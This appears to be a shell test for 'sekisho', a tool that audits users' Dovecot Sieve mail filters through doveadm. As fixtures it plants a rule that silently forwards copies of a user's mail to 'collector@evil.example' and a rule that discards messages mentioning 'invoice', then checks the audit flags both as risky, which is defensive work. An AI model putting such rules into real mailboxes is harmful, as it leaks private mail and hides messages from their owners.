#!/bin/sh
# test_sieve_doveadm.sh - sekisho audit sieve reading users' scripts from a
# real Dovecot/Pigeonhole through doveadm (sieve_doveadm = yes, with the
# command's own -c option): scripts are stored with `doveadm sieve put`,
# users come from `doveadm user '*'`.  Checked: the external redirect :copy
# is found and new (exit 3), a second audit finds nothing new (exit 0), a
# discard added with doveadm is new, an inactive script is read too, a
# script that does not parse is a risky finding, a wrong doveadm is an
# error (exit 1).
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/dovecot_lib.sh"

dovecot_require
command -v doveadm >/dev/null || skip "no doveadm"
[ -f /usr/lib/dovecot/modules/doveadm/lib10_doveadm_sieve_plugin.so ] ||
	skip "no Pigeonhole doveadm plugin (dovecot-sieve)"

PORT=$(free_port)
dovecot_dirs
printf 'alice:{PLAIN}alice-pw:65534:65534::%s/home/alice::\nbob:{PLAIN}bob-pw:65534:65534::%s/home/bob::\n' \
	"$DV" "$DV" >"$DV/users"
chmod 644 "$DV/users"
{ dovecot_conf_base "$PORT" sekisho-sieve; dovecot_conf_users; cat <<CONF; } >"$DV/dovecot.conf"
plugin {
  sieve = file:~/sieve;active=~/.dovecot.sieve
}
CONF
"$DOVECOT" -c "$DV/dovecot.conf" || fail "dovecot did not start"
wait_for 10 test -s "$DV/run/master.pid" || fail "no dovecot master pid"
PIDS="$PIDS $(cat "$DV/run/master.pid")"
DA="doveadm -c $DV/dovecot.conf"

printf 'require ["copy"];\nredirect :copy "collector@evil.example";\nredirect "boss@sekisho.test";\n' |
	$DA sieve put -u alice -a main || fail "doveadm sieve put"
printf 'if true { keep; }\n' | $DA sieve put -u bob spare || fail "doveadm sieve put (inactive)"

mkdir -p "$T/state"
A="$SEKISHO -o state_dir=$T/state -o local_domains=sekisho.test -o sieve_doveadm=yes"
$A -o "sieve_doveadm_command=$DA" audit sieve --json > "$T/a1.json"
check "first audit: exit 3 (new risky)" [ $? -eq 3 ]
check "both users audited" [ "$(jq -c '[.users[].user]' "$T/a1.json")" = '["alice","bob"]' ]
check "the redirect :copy outside is found, new and risky" \
	sh -c "jq -e '.users[0].findings[] | select(.kind == \"redirect_copy\" and .target == \"collector@evil.example\" and .risky and .new and .script == \"main\")' '$T/a1.json' >/dev/null"
check "the internal redirect is not risky" \
	sh -c "jq -e '.users[0].findings[] | select(.target == \"boss@sekisho.test\" and (.risky | not))' '$T/a1.json' >/dev/null"

$A -o "sieve_doveadm_command=$DA" audit sieve > "$T/a2.txt"
check "second audit: nothing new (exit 0)" [ $? -eq 0 ]

printf 'if header :contains "subject" "invoice" { discard; }\n' | $DA sieve put -u bob spare ||
	fail "doveadm sieve put (discard)"
$A -o "sieve_doveadm_command=$DA" audit sieve --user bob --json > "$T/a3.json"
check "a discard in an inactive script is new (exit 3)" [ $? -eq 3 ]
check "and conditional" \
	sh -c "jq -e '.users[0].findings[] | select(.kind == \"discard\" and .conditional and .new)' '$T/a3.json' >/dev/null"

printf 'redirect "x@evil.example"\n' | $DA sieve put -u bob broken 2>/dev/null
if $DA sieve list -u bob | grep -q broken; then
	$A -o "sieve_doveadm_command=$DA" audit sieve --user bob --json > "$T/a4.json"
	check "a script that does not parse is a risky finding" \
		sh -c "jq -e '.users[0].findings[] | select(.kind == \"unparsed\" and .risky)' '$T/a4.json' >/dev/null"
else
	ok "Pigeonhole refused to store a broken script (nothing to audit)"
fi

$A -o "sieve_doveadm_command=/nonexistent/doveadm" audit sieve --user alice > "$T/a5.txt" 2>&1
check "a doveadm that cannot run is an error (exit 1)" [ $? -eq 1 ]
finish
